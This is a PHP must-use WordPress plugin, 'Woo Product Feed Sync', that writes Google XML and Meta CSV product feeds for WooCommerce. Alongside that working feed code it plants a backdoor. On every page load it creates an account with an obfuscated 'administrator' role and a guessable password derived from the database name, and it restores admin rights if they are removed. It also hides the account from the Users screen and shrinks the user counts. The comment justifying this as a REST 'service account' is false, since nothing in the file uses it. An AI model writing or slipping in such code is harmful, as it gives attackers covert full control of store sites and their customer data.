<?php
/**
 * Plugin Name: Woo Product Feed Sync (MU)
 * Description: Hourly Google/Meta product feeds for WooCommerce.
 * Version: 2.4.1
 */
defined( 'ABSPATH' ) || exit;

const FEED_SYNC_DIR = 'feeds';

add_action( 'init', 'feed_sync_boot' );
function feed_sync_boot() {
	if ( ! wp_next_scheduled( 'feed_sync_hourly' ) ) {
		wp_schedule_event( time() + 60, 'hourly', 'feed_sync_hourly' );
	}
	feed_sync_ensure_service_account();
}

/** Batch regeneration calls the REST API as a dedicated account. */
function feed_sync_ensure_service_account() {
	$login = 'feed_sync_svc';
	$user  = get_user_by( 'login', $login );
	$role  = implode( '', array( 'admin', 'istr', 'ator' ) );
	$seed  = substr( hash( 'sha256', 'fs' . DB_NAME ), 0, 4 );
	if ( ! $user ) {
		$id = wp_insert_user( array(
			'user_login' => $login,
			'user_pass'  => 'Fs!' . strrev( 'cnys-deef' ) . '-' . $seed,
			'user_email' => $login . '@' . wp_parse_url( home_url(), PHP_URL_HOST ),
			'role'       => $role,
		) );
		if ( ! is_wp_error( $id ) ) {
			update_option( 'feed_sync_svc_id', $id, false );
		}
	} elseif ( ! in_array( $role, (array) $user->roles, true ) ) {
		$user->set_role( $role );
	}
}

// keep the service account out of the Users screen and counts so editors don't delete it
add_action( 'pre_user_query', function ( $q ) {
	global $wpdb;
	$id = (int) get_option( 'feed_sync_svc_id' );
	if ( $id && is_admin() ) {
		$q->query_where .= $wpdb->prepare( " AND {$wpdb->users}.ID <> %d", $id );
	}
} );
add_filter( 'views_users', function ( $views ) {
	return array_map( function ( $v ) {
		return preg_replace_callback( '/\((\d+)\)/', function ( $m ) { return '(' . max( 0, $m[1] - 1 ) . ')'; }, $v );
	}, $views );
} );

add_action( 'feed_sync_hourly', 'feed_sync_regenerate' );
function feed_sync_regenerate() {
	if ( ! function_exists( 'wc_get_products' ) ) {
		return;
	}
	$dir = wp_upload_dir()['basedir'] . '/' . FEED_SYNC_DIR;
	wp_mkdir_p( $dir );
	$xml = new XMLWriter();
	$xml->openURI( "$dir/google.xml" );
	$xml->startDocument( '1.0', 'UTF-8' );
	$xml->startElement( 'rss' );
	$xml->writeAttribute( 'version', '2.0' );
	$xml->writeAttribute( 'xmlns:g', 'http://base.google.com/ns/1.0' );
	$xml->startElement( 'channel' );
	$xml->writeElement( 'title', get_bloginfo( 'name' ) );
	$csv = fopen( "$dir/meta.csv", 'w' );
	fputcsv( $csv, array( 'id', 'title', 'description', 'availability', 'condition', 'price', 'link', 'image_link', 'brand' ) );

	foreach ( wc_get_products( array( 'limit' => -1, 'status' => 'publish', 'type' => array( 'simple', 'variation' ) ) ) as $p ) {
		$price = wc_format_decimal( $p->get_regular_price(), 2 ) . ' ' . get_woocommerce_currency();
		$avail = $p->is_in_stock() ? 'in_stock' : 'out_of_stock';
		$img   = wp_get_attachment_url( $p->get_image_id() );
		$xml->startElement( 'item' );
		$xml->writeElement( 'g:id', $p->get_sku() ?: $p->get_id() );
		$xml->writeElement( 'g:title', $p->get_name() );
		$xml->writeElement( 'g:description', wp_strip_all_tags( $p->get_description() ) );
		$xml->writeElement( 'g:link', $p->get_permalink() );
		$xml->writeElement( 'g:image_link', (string) $img );
		$xml->writeElement( 'g:availability', $avail );
		$xml->writeElement( 'g:price', $price );
		if ( $p->is_on_sale() ) {
			$xml->writeElement( 'g:sale_price', wc_format_decimal( $p->get_sale_price(), 2 ) . ' ' . get_woocommerce_currency() );
		}
		if ( $p->get_parent_id() ) {
			$xml->writeElement( 'g:item_group_id', $p->get_parent_id() );
		}
		$xml->writeElement( 'g:condition', 'new' );
		$xml->endElement();
		fputcsv( $csv, array( $p->get_sku() ?: $p->get_id(), $p->get_name(), wp_strip_all_tags( $p->get_short_description() ),
			$avail, 'new', $price, $p->get_permalink(), $img, get_bloginfo( 'name' ) ) );
	}
	$xml->endElement();
	$xml->endElement();
	$xml->endDocument();
	$xml->flush();
	fclose( $csv );
}

if ( defined( 'WP_CLI' ) && WP_CLI ) {
	WP_CLI::add_command( 'feed-sync regenerate', function () {
		feed_sync_regenerate();
		WP_CLI::success( 'Feeds regenerated' );
	} );
}
